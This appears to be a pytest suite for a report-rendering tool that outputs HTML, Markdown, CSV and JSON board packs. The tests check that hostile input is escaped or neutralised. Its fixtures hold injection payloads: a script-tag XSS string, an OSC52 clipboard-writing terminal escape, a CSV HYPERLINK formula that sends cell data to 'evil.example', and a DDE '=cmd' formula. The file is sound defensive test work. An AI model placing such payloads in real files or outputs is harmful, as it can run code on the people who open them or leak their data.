"""The board pack's four formats, on hand-made data full of hostile text."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import date, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tui.core.pack.chart import chart_svg
from tui.core.pack.formats import render
from tui.core.pack.html import render_html
from tui.core.pack.json_pack import render_json
from tui.core.pack.markdown import md_text, render_markdown
from tui.core.pack.model import (
    AreaCount,
    BoardMark,
    Closure,
    FieldChange,
    InspectionCount,
    ProgressPoint,
    ReportData,
    ReportItem,
    Revision,
    Update,
)
from tui.core.pack.render import CSV_COLUMNS, escape_cell, render_csv
from tui.core.safe_text import unescape_cell

DOCS = Path(__file__).resolve().parent.parent / "docs"
UTC1 = timezone(timedelta(hours=1))
OSC52 = "\x1b]52;c;SGVsbG8=\x07"  # writes the clipboard on a terminal that obeys it
CSI = "\x9b31m"  # C1 control sequence introducer
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # all but line feed and tab


def item(id: str, **fields) -> ReportItem:
    base = dict(id=id, title=f"Title of {id}", kind="afi", inspection="PEEL22",
                area="Investigating crime", status="in-progress", rag="green", owner="",
                lead="", due=None, original_due=None, due_revisions=0, days_late=None,
                latest_update=None, closure=None, evidence_count=0, actions_done=0,
                actions_total=0, awaiting_signoff=False)
    return ReportItem(**(base | fields))


def hostile_report() -> ReportData:
    overdue = item(
        "PEEL22-01", title=f"{SCRIPT} | pipes & \"quotes\"", rag="red", owner=HYPERLINK,
        lead="-2+3", due=date(2023, 3, 31), original_due=date(2022, 12, 31), due_revisions=2,
        days_late=81, actions_done=1, actions_total=3,
        latest_update=Update(date(2023, 6, 1), "@SUM(A1:A9)",
                             "Line one\nLine two | with pipe\n# not a heading\n> not a quote"))
    signoff = item(
        "PEEL22-02", title="[red]bold[/red] **bold** _em_ `code` \\back\\slash", status="complete",
        rag="done", owner="\tTabbed", lead="+44 1234", due=date(2023, 9, 30),
        original_due=date(2023, 9, 30), evidence_count=2, actions_done=2, actions_total=2,
        awaiting_signoff=True,
        latest_update=Update(date(2023, 6, 10), "Ann", f"{OSC52} clipboard {CSI} CSI"))
    no_date = item("PEEL22-03", title="1. Numbered start", status="not-started",
                   owner="'quoted", lead="\rCR start", area="- dash area")
    closed = item("PEEL22-04", title="Closed item", status="closed", rag="done",
                  due=date(2023, 1, 31), original_due=date(2023, 1, 31),
                  closure=Closure("DCC", "Force Improvement Board | FIB", date(2023, 6, 14)))
    when = datetime(2023, 6, 2, 9, 30, tzinfo=UTC1)
    changes = [
        FieldChange("PEEL22-02", "a" * 40, when, "Jo <jo@example>", "status", "in-progress",
               "complete"),
        FieldChange("PEEL22-04", "b" * 40, when, "Jo", "closure", None, "by DCC at FIB"),
        FieldChange("PEEL22-01", "c" * 40, when, "Sam", "due", "2022-12-31", "2023-03-31",
               "Waiting for | the new\nrecords system"),
        FieldChange("PEEL22-03", "d" * 40, when, "Sam", "created", None, "1. Numbered start"),
        FieldChange("PEEL22-01", "e" * 40, when, "=cmd|' /C calc'!A0", "update", None,
               "Line one\nLine two | with pipe"),
        FieldChange("PEEL22-02", "f" * 40, when, "Ann", "evidence", None, f"Audit {OSC52}"),
        FieldChange("PEEL22-01", "0" * 40, when, "Ann", "owner", "Supt A", HYPERLINK),
    ]
    return ReportData(
        plan_title=f"{SCRIPT} Force | plan\nsecond line {OSC52}",
        generated=date(2023, 6, 20), query="is:open -status:closed",
        as_of=Revision("HEAD", "9" * 40, datetime(2023, 6, 20, 8, 0, tzinfo=UTC1)),
        since=Revision("board/2023-05-24-fib", "8" * 40, datetime(2023, 5, 24, tzinfo=UTC1)),
        statuses=("not-started", "in-progress", "complete", "closed", "superseded"),
        inspections=[InspectionCount("PEEL22", f"PEEL {SCRIPT}",
                                     {"not-started": 1, "in-progress": 1, "complete": 1,
                                      "closed": 1, "superseded": 0},
                                     {"red": 1, "amber": 0, "green": 1, "done": 2})],
        areas=[AreaCount("PEEL22", "Investigating crime", "requires improvement",
                         {"red": 1, "amber": 0, "green": 0, "done": 2}),
               AreaCount("PEEL22", "- dash area", "", {"green": 1})],
        items=[overdue, signoff, no_date, closed], overdue=[overdue],
        awaiting_signoff=[signoff], no_due_date=[no_date], changes=changes,
        progress=[ProgressPoint(date(2023, 4, 1), 4, 0), ProgressPoint(date(2023, 5, 1), 3, 1),
                  ProgressPoint(date(2023, 6, 1), 2, 2)],
        boards=[BoardMark("Force Improvement Board", date(2023, 6, 14), "board/2023-06-14-fib",
                          "7" * 40, "Quorate <b>DCC</b>\nchair")])


def empty_report() -> ReportData:
    return ReportData(
        plan_title="Empty plan", generated=date(2023, 6, 20), query="",
        as_of=Revision("HEAD", None, None), since=None, statuses=("open", "done"),
        inspections=[], areas=[], items=[], overdue=[], awaiting_signoff=[], no_due_date=[],
        changes=[], progress=[])


@pytest.fixture(scope="module")
def data() -> ReportData:
    return hostile_report()


# ---------------------------------------------------------------------------- HTML


class Page(HTMLParser):
    """What a browser would see: elements, attributes, style sheets and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._open.append(tag)

    def handle_endtag(self, tag):
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def handle_data(self, data):
        (self.styles if self._open[-1:] == ["style"] else self.text).append(data)


def parse(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def test_html_shows_hostile_text_as_text(data):
    html = render_html(data)
    page = parse(html)
    assert "script" not in page.tags
    assert "<script" not in html.lower()
    text = "".join(page.text)
    assert SCRIPT in text  # shown, escaped: the reader sees exactly what was typed
    assert "[red]bold[/red] **bold**" in text
    assert HYPERLINK in text


def test_html_has_no_active_or_external_content(data):
    page = parse(render_html(data))
    assert not {"script", "link", "img", "iframe", "object", "embed", "base"} & set(page.tags)
    for name, value in page.attributes:
        assert not name.startswith("on"), name
        assert "http" not in value and "//" not in value and "javascript" not in value.lower()
    style = "".join(page.styles)
    assert "url(" not in style and "@import" not in style and "http" not in style
    assert "http" not in render_html(empty_report())  # nothing outside the data names a URL


def test_html_control_characters_are_visible_not_raw(data):
    html = render_html(data)
    assert not CONTROLS.search(html)
    assert "^[]52;c;SGVsbG8=^G" in "".join(parse(html).text)
    assert "<span class=ctl title=U+009B>&lt;9b&gt;</span>31m" in html
    assert "<span class=ctl title=U+001B>^[</span>" in html
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; Force | plan second line ^[" in html


def test_html_is_one_printable_page(data):
    html = render_html(data)
    assert "<svg" in html and "</svg>" in html and "Open items" in html
    assert "@page" in html and "size: A4" in html and "@media print" in html
    assert "break-before: page" in html and "break-inside: avoid" in html
    for key in ("red", "amber", "green", "done"):  # RAG in words as well as colour
        assert f'<span class="rag rag-{key}">' in html
    assert ">Red</span>" in html


# ---------------------------------------------------------------------------- Markdown


def table_rows(markdown: str) -> list[list[list[str]]]:
    """Each table's rows, split on the pipes that are not escaped."""
    tables, current = [], []
    for line in [*markdown.splitlines(), ""]:
        if line.startswith("|"):
            current.append(split_row(line))
        elif current:
            tables.append(current)
            current = []
    return tables


def split_row(line: str) -> list[str]:
    cells, cell, chars = [], "", iter(line.strip()[1:-1])
    for char in chars:
        if char == "\\":
            cell += char + next(chars, "")
        elif char == "|":
            cells.append(cell)
            cell = ""
        else:
            cell += char
    return [*cells, cell]


def test_markdown_tables_keep_their_shape(data):
    markdown = render_markdown(data)
    tables = table_rows(markdown)
    assert len(tables) >= 10
    for rows in tables:
        assert {len(row) for row in rows} == {len(rows[0])}, rows[0]


def test_markdown_renders_to_the_same_tables_and_no_markup(data):
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(render_markdown(data))
    page = parse(html)
    for bad in ("script", "strong", "em", "code", "a", "blockquote", "ol", "h4", "img"):
        assert bad not in page.tags, bad
    assert page.tags.count("h1") == 1 and page.tags.count("ul") == 1
    text = "".join(page.text)
    assert SCRIPT in text and "**bold**" in text and "[red]bold[/red]" in text
    assert "Line two | with pipe" in text and "\\back\\slash" in text
    body_rows = re.findall(r"<tr>(.*?)</tr>", html, re.S)
    widths = [len(re.findall(r"<t[hd]\b", row)) for row in body_rows]
    assert min(widths) >= 2
    assert not CONTROLS.search(render_markdown(data))


def test_the_packs_own_words_hold_no_markup_that_would_show_escaped(data):
    """The pack's fixed prose (section titles, notes, what an empty section says) is text,
    escaped like user text: a backtick meant as code formatting shows as a literal
    backtick, in the Markdown (escaped) and in the HTML."""
    from tui.core.pack.sections import first_page, sections

    for section in [first_page(data), *sections(data)]:
        for words in (section.title, section.note, section.empty):
            assert "`" not in words, (section.key, words)


@pytest.mark.parametrize(("text", "expected"), [
    ("**bold**", "\\*\\*bold\\*\\*"),
    ("# x", "\\# x"),
    ("- x", "\\- x"),
    ("+ x", "\\+ x"),
    ("12. x", "12\\. x"),
    ("> quote", "&gt; quote"),
    ("a<b>&c", "a&lt;b&gt;&amp;c"),
    ("a|b\\c", "a\\|b\\\\c"),
    ("[x](y) `z` _w_ ~v~", "\\[x\\](y) \\`z\\` \\_w\\_ \\~v\\~"),
    ("one\ntwo\r\nthree", "one<br>two<br>three"),
    ("tab\there", "tab here"),
    ("\x1b[31m\x9b", "^\\[\\[31m&lt;9b&gt;"),
    ("Supt A. Example", "Supt A. Example"),
])
def test_markdown_text_escaping(text, expected):
    assert md_text(text) == expected


# ---------------------------------------------------------------------------- CSV


def csv_records(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def expected_row(it: ReportItem) -> dict[str, str]:
    def text(value):
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        return value.isoformat() if isinstance(value, date) else str(value)

    update, closure = it.latest_update, it.closure
    row = {name: text(getattr(it, name, None)) for name in CSV_COLUMNS}
    row |= {"latest_update_date": text(update and update.date),
            "latest_update_by": text(update and update.by),
            "latest_update": text(update and update.text),
            "closure_approved_by": text(closure and closure.approved_by),
            "closure_board": text(closure and closure.board),
            "closure_date": text(closure and closure.date),
            "assessment": "", "assessment_date": "", "assessment_by": "",
            "assessment_reason": "", "due_history": ""}
    return row


def test_csv_reads_back_exactly_after_unescape(data):
    records = csv_records(render_csv(data))
    assert len(records) == len(data.items)
    for record, it in zip(records, data.items, strict=True):
        assert {k: unescape_cell(v) for k, v in record.items()} == expected_row(it)
    assert records[0]["latest_update"].count("\n") == 3
    assert unescape_cell(records[1]["latest_update"]).startswith(OSC52)  # data stays exact


def test_csv_neutralises_formulas(data):
    records = csv_records(render_csv(data))
    for record in records:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    first, second, third = records[:3]
    assert first["owner"] == "'" + HYPERLINK
    assert first["lead"] == "'-2+3"
    assert first["latest_update_by"] == "'@SUM(A1:A9)"
    assert second["owner"] == "'\tTabbed" and second["lead"] == "'+44 1234"
    assert third["owner"] == "''quoted" and third["lead"] == "'\rCR start"
    assert first["due"] == "2023-03-31" and third["due"] == ""


@pytest.mark.parametrize("text", ["", "plain", "=1+1", "'", "''x", "-", "@", "\t", "\r\n=",
                                  "'=already quoted", "a=b", "é=", "\n=1", "\0x"])
def test_csv_escape_is_reversible(text):
    assert unescape_cell(escape_cell(text)) == text


# ---------------------------------------------------------------------------- JSON

TOP_KEYS = {"version", "plan", "generated", "query", "as_of", "since", "statuses", "counts",
            "items", "overdue", "awaiting_signoff", "no_due_date", "changes", "progress",
            "boards", "board", "meeting", "stale_after_days", "exceptions", "decisions"}
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def test_json_has_the_documented_shape(data):
    text = render_json(data)
    assert not CONTROLS.search(text)  # escaped, so printing it cannot drive a terminal
    pack = json.loads(text)
    assert set(pack) == TOP_KEYS
    assert pack["plan"] == data.plan_title  # escaping is only in the text: values exact
    assert pack["generated"] == "2023-06-20"
    assert pack["as_of"] == {"label": "HEAD", "commit": "9" * 40,
                             "date": "2023-06-20T08:00:00+01:00"}
    assert set(pack["counts"]) == {"by_inspection", "by_area", "rag"}
    assert pack["counts"]["rag"] == {"red": 1, "amber": 0, "green": 1, "grey": 0, "done": 2}
    assert pack["counts"]["by_area"][1]["rag"] == {"red": 0, "amber": 0, "green": 1, "grey": 0,
                                                   "done": 0}
    first, second, *_, closed = pack["items"]
    assert first["latest_update"] == {"date": "2023-06-01", "by": "@SUM(A1:A9)",
                                      "text": data.items[0].latest_update.text}
    assert closed["closure"] == {"approved_by": "DCC", "board": "Force Improvement Board | FIB",
                                 "date": "2023-06-14"}
    assert second["closure"] is None and first["due_revisions"] == 2
    assert ISO_DATE.match(first["due"]) and ISO_DATE.match(first["original_due"])
    assert (pack["overdue"], pack["awaiting_signoff"], pack["no_due_date"]) == (
        ["PEEL22-01"], ["PEEL22-02"], ["PEEL22-03"])
    change = pack["changes"][2]
    assert change["reason"] == "Waiting for | the new\nrecords system"
    assert {"id", "commit", "date", "author", "field", "old", "new", "reason"} <= set(change)
    assert datetime.fromisoformat(change["date"]) == data.changes[2].date
    assert pack["progress"][0] == {"month": "2023-04-01", "open": 4, "done": 0}
    assert pack["boards"][0]["date"] == "2023-06-14"


def test_json_reference_names_every_key():
    doc = (DOCS / "format.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", doc, re.M))
    assert TOP_KEYS.issubset(documented)
    assert set(json.loads(render_json(hostile_report()))["items"][0]) <= documented


# ---------------------------------------------------------------------------- all formats


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json"])
def test_empty_report_renders(fmt):
    out = render(empty_report(), fmt)
    assert out.endswith("\n")
    if fmt == "json":
        pack = json.loads(out)
        assert pack["items"] == [] and pack["since"] is None and pack["progress"] == []
        assert pack["as_of"] == {"label": "HEAD", "commit": None, "date": None}
    elif fmt == "csv":
        assert out == ",".join(CSV_COLUMNS) + "\r\n"
    elif fmt == "html":
        page = parse(out)
        assert "svg" in page.tags and "No progress data" in out
        assert "No item is overdue." in "".join(page.text)
    else:
        assert "No item is overdue." in out and "No progress data." in out


def test_unknown_format_is_refused(data):
    with pytest.raises(ValueError, match="md, html, csv, json"):
        render(data, "pdf")


# ---------------------------------------------------------------------------- chart


def months(count: int) -> list[ProgressPoint]:
    return [ProgressPoint(date(2020 + k // 12, k % 12 + 1, 1), 60 - k, k) for k in range(count)]


@pytest.mark.parametrize("count", [0, 1, 3, 60])
def test_chart_is_valid_svg_at_any_length(count):
    svg = chart_svg(months(count), 640, 220)
    root = ET.fromstring(svg)  # well-formed XML on its own (HTML gives it its namespace)
    assert root.tag == "svg"
    texts = [t.text for t in root.iter("text")]
    assert "Open items" in texts and "Done items" in texts and "Items" in texts
    circles = len(list(root.iter("circle")))
    assert circles == count + 1  # one per month, one in the legend
    month_labels = [t for t in texts if t in ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul",
                                               "Aug", "Sep", "Oct", "Nov", "Dec")]
    assert len(month_labels) <= 13 and (count == 0 or month_labels)
    if count == 0:
        assert "No progress data for this period" in texts


def test_the_tracker_import_reads_back_columns_the_pack_writes():
    from tui.core.imports.tracker_columns import BOARD_PACK_COLUMNS

    assert set(BOARD_PACK_COLUMNS) <= set(CSV_COLUMNS)
